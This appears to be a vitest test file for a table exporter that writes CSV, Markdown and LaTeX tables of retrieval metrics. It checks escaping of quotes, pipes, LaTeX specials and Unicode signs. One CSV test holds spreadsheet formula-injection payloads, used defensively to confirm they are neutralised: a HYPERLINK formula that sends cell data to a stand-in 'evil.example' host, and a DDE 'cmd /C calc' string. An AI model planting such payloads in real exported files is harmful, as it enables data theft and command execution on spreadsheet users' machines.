import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { latexEscape, toCsv, toLatex, toMarkdown } from './table-export.js';

const t = {
  columns: ['run', 'system', 'Recall@10 [95% CI]', 'note'],
  rows: [
    ['reproduce/runs/bm25', 'retrieval', '10.0% [2.8, 30.1]', 'says "hi", then | pipes'],
    ['a_b', 'case', '50.0% [15.0, 85.0]', 'line\nbreak & 5% $x$'],
  ],
};

describe('table export', () => {
  it('CSV round-trips through a CSV parser (quotes, commas, newlines)', () => {
    expect(parse(toCsv(t), { relaxQuotes: false })).toEqual([t.columns, ...t.rows]);
  });

  it("CSV: a text cell a spreadsheet would run as a formula or strip of leading zeros opens as text (a leading '), a numeric cell is left as it is", () => {
    const risky = {
      columns: ['passage', 'query', 'MRR', 'Δ MRR', 'note'],
      rows: [
        ['00123', '=HYPERLINK("http://evil.example/?"&A1,"see")', '0.500', '-0.012', "+cmd|' /C calc'!A0"],
        ['p-7', '@SUM(A1:A9)', '1e-4', '+0.034', '-x'],
        ['0.25', '\tTAB first', '12%', '0', '\rCR first'],
      ],
    };
    const csv = toCsv(risky);
    expect(csv.split('\r\n')[1]).toBe(`'00123,"'=HYPERLINK(""http://evil.example/?""&A1,""see"")",0.500,-0.012,'+cmd|' /C calc'!A0`);
    // parsed back, every text cell that began with = + - @ tab CR or was a zero-padded number carries the ' and nothing else changed
    expect(parse(csv, { relaxQuotes: false })).toEqual([
      risky.columns,
      ["'00123", `'${risky.rows[0][1]}`, '0.500', '-0.012', `'${risky.rows[0][4]}`],
      ['p-7', "'@SUM(A1:A9)", '1e-4', '+0.034', "'-x"],
      ['0.25', "'\tTAB first", '12%', '0', "'\rCR first"],
    ]);
  });

  it('Markdown: one pipe row per table row, pipes escaped, newlines as <br>', () => {
    const md = toMarkdown(t).trimEnd().split('\n');
    expect(md).toHaveLength(2 + t.rows.length);
    expect(md[1]).toBe('| --- | --- | --- | --- |');
    expect(md[2]).toContain('then \\| pipes');
    expect(md[3]).toContain('line<br>break');
    // every row splits into the same number of cells once escaped pipes are set aside
    for (const l of md) expect(l.replace(/\\\|/g, '').split('|').length).toBe(t.columns.length + 2);
  });

  it('LaTeX: a table of signed differences, intervals and accented or Greek labels comes out ASCII only, each sign as the LaTeX command for it', () => {
    const compare = {
      columns: ['measure', 'Δ (B − A)', '95% CI', 'p', 'note'],
      rows: [
        ['MRR', '−0.012 ± 0.004', '[−0.020, −0.004]', '≤ 0.05', 'bm25 × rm3 → hybrid'],
        ['Recall@10', '+0.030', '[−0.010, 0.070]', '≥ 0.5', 'café “Société Générale” – naïve σ, τ, θ…'],
        ['accuracy', '½', '–', '0.8', 'Curaçao ✓ Ødegaard ✗ straße ⚠'],
      ],
    };
    const tex = toLatex(compare, 'Paired comparison (B − A), Δ MRR');
    expect(tex).toMatch(/^[\x00-\x7f]*$/);
    expect(tex).toContain('\\caption{Paired comparison (B $-$ A), $\\Delta$ MRR}');
    expect(tex).toContain('MRR & $-$0.012 $\\pm$ 0.004 & [$-$0.020, $-$0.004] & $\\leq$ 0.05 & bm25 $\\times$ rm3 $\\rightarrow$ hybrid \\\\');
    expect(tex).toContain("caf\\'{e} ``Soci\\'{e}t\\'{e} G\\'{e}n\\'{e}rale'' -- na\\\"{\\i}ve $\\sigma$, $\\tau$, $\\theta$\\ldots{}");
    expect(tex).toContain('$\\geq$ 0.5');
    // a letter with no accent command, a check mark, and a sign base LaTeX cannot print (its code point instead)
    expect(tex).toContain('Cura\\c{c}ao $\\surd$ \\O{}degaard $\\times$ stra\\ss{}e U+26A0');
  });

  it('LaTeX: escapes specials, one \\\\ row per table row, booktabs rules', () => {
    expect(latexEscape('a_b & 5% $x$ #1 {y} ~ ^')).toBe('a\\_b \\& 5\\% \\$x\\$ \\#1 \\{y\\} \\textasciitilde{} \\textasciicircum{}');
    // a p-value "< 0.001" and an id "d|1": OT1 (pdflatex's default encoding) prints < > | as ¡ ¿ —
    expect(latexEscape('< 0.001')).toBe('\\textless{} 0.001');
    expect(latexEscape('d|1 > d2')).toBe('d\\textbar{}1 \\textgreater{} d2');
    const tex = toLatex(t, 'Runs');
    expect(tex).toContain('\\caption{Runs}');
    expect(tex).toContain('\\begin{tabular}{llrl}'); // the CI column is numeric: right-aligned
    expect(tex.match(/\\\\$/gm)).toHaveLength(1 + t.rows.length);
    expect(tex).toContain('reproduce/runs/bm25');
    expect(tex).toContain('a\\_b');
    expect(tex).toMatch(/\\toprule[\s\S]*\\midrule[\s\S]*\\bottomrule/);
  });

  it('LaTeX: a row whose first cell starts with "[" or "*" is not read as the optional argument or star of the \\\\ or rule before it', () => {
    const tex = toLatex({
      columns: ['[citation]', 'n'],
      rows: [
        ['[2024] 1 WLR 5', '3'],
        ['*starred run', '4'],
        [' [note]', '5'],
        ['plain [x]', '6'],
      ],
    });
    // before: "\toprule\n  [citation] & n \\" — \toprule, \midrule and \\ read "[…]" as their optional argument (pdflatex: "Missing number")
    expect(tex).toContain(
      '\\toprule\n  {}[citation] & n \\\\\n\\midrule\n  {}[2024] 1 WLR 5 & 3 \\\\\n  {}*starred run & 4 \\\\\n  {} [note] & 5 \\\\\n  plain [x] & 6 \\\\',
    );
  });
});
